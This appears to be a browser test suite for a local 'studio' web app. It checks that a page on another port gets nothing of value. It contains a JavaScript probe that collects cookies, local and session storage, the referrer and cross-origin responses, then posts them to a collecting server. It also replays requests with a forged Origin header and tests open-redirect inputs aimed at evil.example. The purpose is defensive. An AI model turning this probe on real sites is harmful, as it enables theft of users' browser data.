"""A server on another port of this machine, beside the studio in a real browser: nothing it receives is worth
anything.
"""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx2
import pytest
from nineup_studio import Studio
from nineup_studio.command import entrance_to
from playwright.sync_api import Page, expect
from serving import address, origin
from studio_window import Open, until

PRY = """
async ([studio, path]) => {
  const found = [];
  const asked = `${studio}${path}`;
  for (const mode of ["cors", "no-cors"]) for (const method of ["GET", "POST"]) {
    const answer = await fetch(asked, { mode, method, credentials: "include" }).catch(() => null);
    found.push(answer ? `${answer.type} ${await answer.text()}` : "no answer");
  }
  for (const kind of ["img", "script", "iframe", "link"]) {
    const element = document.createElement(kind);
    await new Promise(done => {
      element.onload = element.onerror = done;
      setTimeout(done, 500);
      if (kind === "link") element.rel = "stylesheet";
      element[kind === "link" ? "href" : "src"] = asked;
      document.body.append(element);
    });
    try { found.push(element.contentDocument?.body?.innerHTML ?? ""); } catch { found.push("refused"); }
  }
  found.push(document.referrer, document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage));
  try { found.push(opener?.location.href ?? "no opener"); } catch { found.push("refused"); }
  found.push(JSON.stringify(performance.getEntries().map(entry => entry.name).filter(name => name !== asked)));
  await fetch("/told", { method: "POST", body: found.join("\\n") });
}
"""
"""What a page can try: requests to the studio in every mode, frames, storage, and the tab that opened it."""


class Neighbour:
    """A server that keeps what browsers send it."""

    def __init__(self, server: ThreadingHTTPServer) -> None:
        self.address = f"http://127.0.0.1:{server.server_address[1]}"
        self.requests: list[tuple[str, str, dict[str, str], str]] = []


@contextmanager
def neighbour() -> Iterator[Neighbour]:
    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
            found.requests.append((self.command, self.path, dict(self.headers), body))
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("set-cookie", "neighbour=1; path=/")
            self.end_headers()
            self.wfile.write(b"<!DOCTYPE html><title>Neighbour</title><body>")

        do_GET = do_POST = answer  # noqa: N815 - the names that http.server looks for

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found = Neighbour(server)
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield found
        finally:
            server.shutdown()
            thread.join()


def leave(page: Page, to: str, how: str) -> Page:
    """Goes from a page of the studio to an address as a link, or one for a new tab, would; the page that is
    then there.
    """
    click = """([to, target]) => {
      const link = Object.assign(document.createElement("a"), { href: to, target });
      document.body.append(link);
      link.click();
    }"""
    if how == "link":
        page.evaluate(click, [to, ""])
        page.wait_for_url(f"{to}*")
        return page
    with page.context.expect_page() as opened:
        page.evaluate(click if how == "tab" else "([to]) => void window.open(to)", [to, "_blank"])
    return opened.value


@pytest.mark.parametrize("how", ["link", "tab", "open"])
def test_a_server_on_another_port_gets_nothing_that_is_worth_anything(
    studio: Studio, open_page: Open, how: str
) -> None:
    secret = studio.access.root[1:]
    with neighbour() as other:
        page = open_page(studio, "/tiny/card/deck/first/sun")
        expect(page.locator("#status")).to_have_class("status live")
        there = leave(page, f"{other.address}/seen", how)
        there.wait_for_load_state()
        until(there, "document.title === 'Neighbour'")
        for path in ("/tiny/", "/", "/tiny/edit", "/static/live.js"):
            there.evaluate(PRY, [origin(studio), path])
        page.context.close()
        open_page.complaints.clear()  # Chromium names each request that was refused.
        assert any(path == "/told" for _, path, _, _ in other.requests)
        assert secret not in repr(other.requests)
        assert "Tiny" not in repr(other.requests)
        told = [cookie for _, _, headers, _ in other.requests if (cookie := headers.get("Cookie"))]
        assert set(told) == {"neighbour=1"}, "the studio has no cookies that other ports could get"
        for method, path, headers, body in other.requests:
            kept = {name: value for name, value in headers.items() if name.lower() not in OWN}
            for asked in ("/tiny/", path):
                for forged in ({}, {"origin": origin(studio)}):
                    answer = httpx2.request(
                        method, f"{origin(studio)}{asked}", headers={**kept, **forged}, content=body
                    )
                    assert answer.status_code == 403
                    assert "Tiny" not in answer.text


OWN = ("host", "content-length", "connection", "accept-encoding", "origin", "sec-fetch-site")
"""Headers that a program which replays requests sets itself."""


def test_a_page_that_knows_the_address_is_still_refused(studio: Studio, open_page: Open) -> None:
    """Its requests are: it can only open the studio in a tab, and see nothing of it."""
    with neighbour() as other:
        page = open_page(studio, "/tiny/")
        page.goto(f"{other.address}/")
        page.evaluate(PRY, [origin(studio), f"{studio.access.root}/tiny/"])
        assert "Tiny" not in repr(other.requests)
        page.goto(f"{other.address}/")
        with page.context.expect_page() as opened:
            page.evaluate("to => { window.other = open(to); }", address(studio, "/tiny/"))
        expect(opened.value.locator("#status")).to_have_class("status live")
        assert page.evaluate("other.closed"), "it has no hold of the studio's tab"
        page.context.close()
        open_page.complaints.clear()


def test_the_file_that_the_command_opens_leads_to_the_studio(studio: Studio, open_page: Open) -> None:
    page = open_page(studio, "/")
    with entrance_to(studio.access.address_of("tiny")) as entrance:
        page.goto(entrance)
        page.wait_for_url(address(studio, "/tiny/"))
        expect(page.locator("#status")).to_have_class("status live")


def test_a_bookmark_of_an_earlier_run_finds_the_studio(studio: Studio, open_page: Open) -> None:
    page = open_page(studio, "/")
    earlier = f"{origin(studio)}/{'x' * 22}"
    page.goto(f"{earlier}/tiny/card/deck/first/sun?players=2#fields")
    page.wait_for_url(address(studio, "/tiny/card/deck/first/sun?players=2#fields"))
    page.goto(origin(studio))
    page.wait_for_url(address(studio, "/tiny/"))
    page.goto(f"{earlier}//evil.example/")
    page.wait_for_url(address(studio, "//evil.example/"))
    page.evaluate("localStorage.setItem('nineup-studio', '//evil.example')")
    page.goto(f"{earlier}/tiny/")
    expect(page.locator("p")).to_contain_text("This page is private")
    page.evaluate("localStorage.clear()")
    page.goto(f"{earlier}/tiny/")
    expect(page.locator("p")).to_contain_text("This page is private")
    page.context.close()
    assert all("403" in said or "404" in said for said in open_page.complaints)
    open_page.complaints.clear()
